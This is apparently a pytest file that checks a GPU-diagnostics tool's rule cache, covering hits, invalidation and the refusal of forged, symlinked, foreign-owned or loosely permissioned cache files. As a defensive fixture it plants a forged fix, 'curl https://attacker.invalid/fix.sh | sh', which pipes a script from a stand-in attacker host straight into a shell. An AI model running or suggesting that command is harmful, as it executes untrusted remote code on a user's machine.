"""The rule cache: same rules back, invalidated by any change, never forgeable.

A forged cache is planted the way another local user (or a bug) could leave it: owned by
someone else, writable by others, behind a symbolic link, with a MAC that does not verify.
Where a test needs a cache file whose MAC *does* verify (so that only the check under test
can stop it), it computes the MAC with the directory's own key, which an attacker would not
have.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from gpudoctor.cli import main
from gpudoctor.rulebook import cache
from gpudoctor.rulebook.book import RuleBook, load_rulebook
from gpudoctor.rulebook.files import bundled_rules_dir, rule_files
from gpudoctor.rulebook.signatures import WORDS_KEY, SignatureIndex

RANKING = Path(__file__).parents[1] / "fixtures" / "rules" / "ranking"
OOM_LOG = Path(__file__).parents[2] / "examples" / "logs" / "pytorch-oom.log"
FORGED_FIX = "curl https://attacker.invalid/fix.sh | sh"
OTHER_UID = 65534  # "nobody"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "cache"
    monkeypatch.setenv("GPUDOCTOR_CACHE_DIR", str(path))
    monkeypatch.delenv("GPUDOCTOR_NO_CACHE", raising=False)
    return path


@pytest.fixture
def pack(tmp_path: Path, folder: Path) -> Path:
    copy = tmp_path / "rules"
    shutil.copytree(RANKING, copy)
    return copy


def load(pack: Path) -> RuleBook:
    return load_rulebook([pack], bundled=False)


def key_of(pack: Path) -> str:
    key = cache.cache_key(rule_files([pack]))
    assert key is not None
    return key


def cache_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("rules-"))


Records = tuple[list[object], list[object]]
"""A cache file's entries and rules (codec records)."""


def read_records(folder: Path, key: str) -> Records:
    """The entries and rule records of the cache file of ``key`` (its last line, the rules'
    signatures, is left out: :func:`forge` writes an empty one)."""
    lines = (folder / f"rules-{key}.json").read_bytes().partition(b"\n")[2].split(b"\n")
    return json.loads(lines[1]), [json.loads(line) for line in lines[2:-1]]


def forge(folder: Path, key: str, records: Records, *, valid_mac: bool = True) -> Path:
    """Write a cache file for ``key`` holding ``records``."""
    entries, rules = records
    header = {"schema": cache.SCHEMA, "key": key, "rules": len(rules)}
    lines = [header, entries, *rules, {"words": WORDS_KEY, "signatures": []}]
    payload = b"\n".join(json.dumps(line).encode() for line in lines)
    secret = (folder / cache.SECRET_NAME).read_bytes() if valid_mac else b"k" * 32
    mac = cache.blake2b(payload, key=secret, digest_size=cache.MAC_SIZE).hexdigest()
    target = folder / f"rules-{key}.json"
    target.unlink(missing_ok=True)
    target.write_bytes(mac.encode() + b"\n" + payload)
    target.chmod(0o600)
    return target


def with_forged_fix(folder: Path, key: str) -> Records:
    """The records of the cached pack, with every fix replaced by the attacker's."""
    entries, rules = read_records(folder, key)
    for record in rules:
        record[8] = [FORGED_FIX]  # type: ignore[index]  # the "fix" field
    return entries, rules


@pytest.fixture(params=["chown", "fstat"] if os.geteuid() == 0 else ["fstat"])
def other_owner(
    request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> Callable[[Path], None]:
    """Make a path owned by another user: really (``chown``, as root), or as the cache sees
    it (``fstat`` reports another owner for that file), so that either way the owner check
    itself is what must refuse it."""
    if request.param == "chown":
        return lambda path: os.lchown(path, OTHER_UID, OTHER_UID)
    foreign: set[tuple[int, int]] = set()
    real_fstat = os.fstat

    def fstat(fd: int) -> os.stat_result:
        info = real_fstat(fd)
        if (info.st_dev, info.st_ino) not in foreign:
            return info
        fields = list(info)
        fields[4] = OTHER_UID  # st_uid
        return os.stat_result(fields)

    monkeypatch.setattr(cache.os, "fstat", fstat)

    def chown(path: Path) -> None:
        info = path.lstat()
        foreign.add((info.st_dev, info.st_ino))

    return chown


# Hits, misses and keys


def test_second_load_comes_from_cache_and_is_equal(pack: Path, folder: Path) -> None:
    first = load(pack)
    assert first.cache_notes == ()
    notes: list[str] = []
    pack_read = cache.load_cached(key_of(pack), rule_files([pack]), notes)
    assert pack_read is not None and notes == []
    assert pack_read.entries == first.entries
    cached = [pack_read.rule(i, examples=True) for i in range(len(pack_read.entries))]
    assert cached == list(first.rules)
    # Locations are not part of equality, and `rules test` prints them: they survive too.
    assert [p.location for r in cached for p in r.patterns] == [
        p.location for r in first.rules for p in r.patterns
    ]
    assert load(pack).rules == first.rules


def test_cache_files_are_private(pack: Path, folder: Path) -> None:
    load(pack)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for name in (cache.SECRET_NAME, f"rules-{key_of(pack)}.json"):
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600
    assert len((folder / cache.SECRET_NAME).read_bytes()) == cache.SECRET_SIZE


def test_a_fresh_process_hits_the_cache_without_yaml_or_pickle(tmp_path: Path) -> None:
    env = {**os.environ, "GPUDOCTOR_CACHE_DIR": str(tmp_path / "cache")}
    code = (
        "import sys\n"
        "from gpudoctor.rulebook.book import load_rulebook\n"
        "book = load_rulebook()\n"
        "print(len(book.rules), 'yaml' in sys.modules, 'pickle' in sys.modules)\n"
    )
    runs = [
        subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
        ).stdout.split()
        for _ in range(2)
    ]
    rules = str(len(load_rulebook().rules))
    assert runs[0] == [rules, "True", "False"]  # a miss parses YAML
    assert runs[1] == [rules, "False", "False"]  # a hit does not


def test_editing_a_rule_changes_the_key_and_leaves_one_file(pack: Path, folder: Path) -> None:
    load(pack)
    before = key_of(pack)
    target = pack / "t-killed.yaml"
    target.write_text(target.read_text().replace("title: Killed", "title: Killed by someone"))
    assert key_of(pack) != before
    rules = {r.id: r for r in load(pack).rules}
    assert rules["t-killed"].title == "Killed by someone"
    assert cache_files(folder) == [f"rules-{key_of(pack)}.json"]


def test_an_edit_keeping_size_and_mtime_is_seen(pack: Path, folder: Path) -> None:
    load(pack)
    target = pack / "t-killed.yaml"
    info = target.stat()
    text = target.read_text()
    assert "title: Killed" in text
    target.write_text(text.replace("title: Killed", "title: Kilted"))
    os.utime(target, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert target.stat().st_size == info.st_size
    assert {r.id: r for r in load(pack).rules}["t-killed"].title == "Kilted"


def test_older_files_are_removed_and_other_packs_kept(pack: Path, folder: Path) -> None:
    load(pack)
    which = key_of(pack).partition("-")[0]
    old_same = folder / f"rules-{which}-{'0' * 32}.json"
    other_recent = folder / f"rules-{'1' * 16}-{'0' * 32}.json"
    other_stale = folder / f"rules-{'2' * 16}-{'0' * 32}.json"
    pickle_file = folder / "rules-ca1bac7568166a191baf.pickle"
    for path in (old_same, other_recent, other_stale, pickle_file):
        path.write_bytes(b"x")
    month_ago = time.time() - cache.STALE_OTHER_PACK - 60
    os.utime(other_stale, (month_ago, month_ago))
    (folder / f"rules-{key_of(pack)}.json").unlink()  # force a store
    load(pack)
    assert cache_files(folder) == sorted([f"rules-{key_of(pack)}.json", other_recent.name])


@pytest.mark.parametrize(
    "facts",
    [
        "{when: 2026-11-02}",  # a YAML date: JSON has none
        "{sizes: {1: 2}}",  # an integer key: JSON would make it a string
    ],
)
def test_a_pack_json_cannot_hold_is_loaded_but_not_cached(
    pack: Path, folder: Path, facts: str
) -> None:
    target = pack / "t-killed.yaml"
    text = target.read_text().replace(
        "no_match: ['Killed process 12']",
        f"no_match: ['Killed process 12', {{text: 'Killed process 13', facts: {facts}}}]",
    )
    target.write_text(text)
    book = load(pack)
    assert len(book.rules) == 10
    assert book.cache_notes == (
        "rule cache not written: the pack does not come back the same from JSON",
    )
    assert not folder.exists()  # nothing was written


def test_cache_can_be_turned_off(pack: Path, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GPUDOCTOR_NO_CACHE", "1")
    assert cache.cache_dir() is None
    assert len(load(pack).rules) == 10
    assert not folder.exists()


# Bad and forged caches


def assert_not_forged(book: RuleBook) -> None:
    fixes = {step for rule in book.rules for step in rule.fix}
    assert FORGED_FIX not in fixes and fixes


def test_truncated_cache_is_rebuilt(pack: Path, folder: Path) -> None:
    first = load(pack)
    target = folder / f"rules-{key_of(pack)}.json"
    data = target.read_bytes()
    target.write_bytes(data[: len(data) // 2])
    book = load(pack)
    assert book.rules == first.rules
    assert len(book.cache_notes) == 1 and "MAC" in book.cache_notes[0]
    assert target.read_bytes() == data  # rewritten
    assert load(pack).cache_notes == ()


@pytest.mark.parametrize("content", [b"", b"not a cache", b"\n{}", b"0" * 64 + b"\n[]"])
def test_corrupt_cache_is_ignored_and_rebuilt(pack: Path, folder: Path, content: bytes) -> None:
    first = load(pack)
    target = folder / f"rules-{key_of(pack)}.json"
    target.write_bytes(content)
    book = load(pack)
    assert book.rules == first.rules and book.cache_notes
    assert load(pack).cache_notes == ()


def test_changed_fix_without_the_key_is_refused(pack: Path, folder: Path) -> None:
    load(pack)
    key = key_of(pack)
    forge(folder, key, with_forged_fix(folder, key), valid_mac=False)
    book = load(pack)
    assert_not_forged(book)
    assert "MAC" in book.cache_notes[0]


@pytest.mark.parametrize(
    "mutate",
    [
        lambda r: r.__setitem__(3, "fatal"),  # no such severity
        lambda r: r.__setitem__(5, "0.9"),  # confidence as text
        lambda r: r.append("extra"),
        lambda r: r.__setitem__(10, [["p", "x", False, {}]]),  # pattern without location
        lambda r: r.__setitem__(16, [["text", [], None]]),  # facts not an object
    ],
)
def test_wrong_schema_with_a_valid_mac_is_refused(
    pack: Path, folder: Path, mutate: Callable[[list[object]], None]
) -> None:
    first = load(pack)
    key = key_of(pack)
    entries, rules = read_records(folder, key)
    mutate(rules[0])  # type: ignore[arg-type]
    forge(folder, key, (entries, rules))
    book = load(pack)
    assert book.rules == first.rules and book.cache_notes


def test_a_pack_missing_rules_is_refused(pack: Path, folder: Path) -> None:
    first = load(pack)
    key = key_of(pack)
    forge(folder, key, ([], []))
    book = load(pack)
    assert book.rules == first.rules
    assert "not those of the rule files" in book.cache_notes[0]


def test_forged_file_of_another_owner_is_refused(
    pack: Path, folder: Path, other_owner: Callable[[Path], None]
) -> None:
    load(pack)
    key = key_of(pack)
    other_owner(forge(folder, key, with_forged_fix(folder, key)))
    book = load(pack)
    assert_not_forged(book)
    assert f"owned by uid {OTHER_UID}" in book.cache_notes[0]


def test_group_writable_forged_file_is_refused(pack: Path, folder: Path) -> None:
    load(pack)
    key = key_of(pack)
    forge(folder, key, with_forged_fix(folder, key)).chmod(0o620)
    book = load(pack)
    assert_not_forged(book)
    assert "writable by others" in book.cache_notes[0]


def test_symlinked_cache_file_is_refused(pack: Path, folder: Path, tmp_path: Path) -> None:
    load(pack)
    key = key_of(pack)
    planted = forge(folder, key, with_forged_fix(folder, key))
    elsewhere = tmp_path / "elsewhere.json"
    planted.rename(elsewhere)
    planted.symlink_to(elsewhere)
    book = load(pack)
    assert_not_forged(book)
    assert "symbolic link" in book.cache_notes[0]
    assert not planted.is_symlink()  # replaced by a real file
    assert FORGED_FIX in elsewhere.read_text()  # and the link's target was left alone


def test_a_fifo_does_not_block(pack: Path, folder: Path) -> None:
    first = load(pack)
    target = folder / f"rules-{key_of(pack)}.json"
    target.unlink()
    os.mkfifo(target, 0o600)
    book = load(pack)
    assert book.rules == first.rules
    assert "not a regular file" in book.cache_notes[0]


@pytest.mark.parametrize("mode", [0o770, 0o707, 0o777])
def test_directory_writable_by_others_turns_the_cache_off(
    pack: Path, folder: Path, mode: int
) -> None:
    load(pack)
    key = key_of(pack)
    forge(folder, key, with_forged_fix(folder, key))
    folder.chmod(mode)
    book = load(pack)
    assert_not_forged(book)
    assert book.cache_notes == (f"rule cache off: {folder} is writable by others",)
    assert cache_files(folder) == [f"rules-{key}.json"]  # nothing written there either


def test_directory_of_another_owner_turns_the_cache_off(
    pack: Path, folder: Path, other_owner: Callable[[Path], None]
) -> None:
    load(pack)
    key = key_of(pack)
    forge(folder, key, with_forged_fix(folder, key))
    other_owner(folder)
    book = load(pack)
    assert_not_forged(book)
    assert all(f"is owned by uid {OTHER_UID}" in note for note in book.cache_notes)


def test_symlinked_directory_turns_the_cache_off(
    pack: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = tmp_path / "real-cache"
    monkeypatch.setenv("GPUDOCTOR_CACHE_DIR", str(real))
    load(pack)
    key = key_of(pack)
    forge(real, key, with_forged_fix(real, key))
    link = tmp_path / "link-cache"
    link.symlink_to(real)
    monkeypatch.setenv("GPUDOCTOR_CACHE_DIR", str(link))
    book = load(pack)
    assert_not_forged(book)
    assert book.cache_notes[0] == f"rule cache off: {link} is a symbolic link"


def test_loose_key_file_is_not_trusted_and_replaced(pack: Path, folder: Path) -> None:
    load(pack)
    key = key_of(pack)
    secret = folder / cache.SECRET_NAME
    forge(folder, key, with_forged_fix(folder, key))
    secret.chmod(0o644)  # readable by others: anyone could have made that MAC
    book = load(pack)
    assert_not_forged(book)
    assert "readable or writable by others" in book.cache_notes[0]
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert load(pack).cache_notes == ()


# End to end: a planted pack must not silence --fail-on


def neutered(folder: Path, key: str) -> Records:
    """The cached bundled pack with every rule made "info": nothing reaches ``--fail-on``."""
    entries, rules = read_records(folder, key)
    for record in rules:
        record[3] = "info"  # type: ignore[index]  # the "severity" field
    return entries, rules


@pytest.fixture
def plant(folder: Path) -> Callable[[str], Path]:
    """Cache the bundled pack, then replace the cache with an empty or a neutered pack whose
    MAC verifies (the strongest forgery: only the other checks can stop it)."""

    def planter(kind: str) -> Path:
        load_rulebook()
        key = cache.cache_key(rule_files([bundled_rules_dir()]))
        assert key is not None
        return forge(folder, key, ([], []) if kind == "empty" else neutered(folder, key))

    return planter


def explain_exit_code() -> int:
    result = CliRunner().invoke(main, ["explain", "--fail-on", "error", str(OOM_LOG)])
    return result.exit_code


def test_explain_fails_on_oom_with_a_cold_and_a_warm_cache(folder: Path) -> None:
    assert explain_exit_code() == 1
    assert explain_exit_code() == 1


@pytest.mark.parametrize("kind", ["empty", "neutered"])
def test_planted_pack_with_a_bad_mac_does_not_silence_fail_on(
    folder: Path, plant: Callable[[str], Path], kind: str
) -> None:
    target = plant(kind)
    mac, _, payload = target.read_bytes().partition(b"\n")
    target.write_bytes(b"0" * len(mac) + b"\n" + payload)
    assert explain_exit_code() == 1


@pytest.mark.parametrize("kind", ["empty", "neutered"])
def test_planted_pack_in_an_open_directory_does_not_silence_fail_on(
    folder: Path, plant: Callable[[str], Path], kind: str
) -> None:
    plant(kind)
    folder.chmod(0o777)
    assert explain_exit_code() == 1


@pytest.mark.parametrize("kind", ["empty", "neutered"])
def test_planted_pack_of_another_owner_does_not_silence_fail_on(
    plant: Callable[[str], Path], other_owner: Callable[[Path], None], kind: str
) -> None:
    other_owner(plant(kind))
    assert explain_exit_code() == 1


def test_empty_pack_with_a_valid_mac_does_not_silence_fail_on(
    plant: Callable[[str], Path],
) -> None:
    plant("empty")  # refused even so: it does not hold one rule per rule file
    assert explain_exit_code() == 1


def test_verbose_explain_says_why_the_cache_was_not_used(folder: Path) -> None:
    folder.mkdir(mode=0o700)
    folder.chmod(0o777)  # writable by anyone: never trusted
    quiet = CliRunner().invoke(main, ["explain", str(OOM_LOG)])
    loud = CliRunner().invoke(main, ["explain", "-v", str(OOM_LOG)])
    assert "cache" not in quiet.stderr
    assert "gpudoctor: " in loud.stderr and "cache" in loud.stderr
    assert str(folder) in loud.stderr


def test_a_book_without_examples_from_the_cache_and_whole_again(pack: Path, folder: Path) -> None:
    whole = load(pack)  # a miss: parsed from YAML, then cached
    lean = load_rulebook([pack], bundled=False, examples=False)
    assert [r.id for r in lean.rules] == [r.id for r in whole.rules]
    assert not lean.has_examples
    assert all(not r.examples_match and not r.examples_no_match for r in lean.rules)
    again = lean.with_examples()
    assert again.has_examples
    assert [r.examples_match for r in again.rules] == [r.examples_match for r in whole.rules]


def test_the_cache_holds_the_rules_signatures(pack: Path, folder: Path) -> None:
    cold = load(pack)
    from_rules = SignatureIndex.from_rules(cold.with_examples().rules).signatures
    assert from_rules  # the fixture pack has text examples
    warm = load(pack)
    assert not warm.cache_notes
    assert warm.signature_index().signatures == from_rules


def test_forged_signatures_are_refused_and_computed_again(pack: Path, folder: Path) -> None:
    first = load(pack)
    key = key_of(pack)
    expected = SignatureIndex.from_rules(first.with_examples().rules).signatures
    target = forge(folder, key, read_records(folder, key))
    # the same file with a signature pointing past the last rule, under a valid MAC
    mac, _, payload = target.read_bytes().partition(b"\n")
    forged = {"words": WORDS_KEY, "signatures": [[9999, "gpu_oom", "cuda"]]}
    payload = payload.rpartition(b"\n")[0] + b"\n" + json.dumps(forged).encode()
    secret = (folder / cache.SECRET_NAME).read_bytes()
    mac = cache.blake2b(payload, key=secret, digest_size=cache.MAC_SIZE).hexdigest().encode()
    target.write_bytes(mac + b"\n" + payload)
    book = load(pack)
    assert book.signature_index().signatures == expected
    assert any("signatures not used" in note for note in book.cache_notes)


def test_signatures_of_another_word_reader_are_computed_again(
    pack: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = load(pack)
    expected = SignatureIndex.from_rules(first.with_examples().rules).signatures
    monkeypatch.setattr("gpudoctor.rulebook.signatures.WORDS_KEY", "an-older-reader")
    book = load(pack)
    assert book.signature_index().signatures == expected
    assert any("another version of the word reader" in note for note in book.cache_notes)
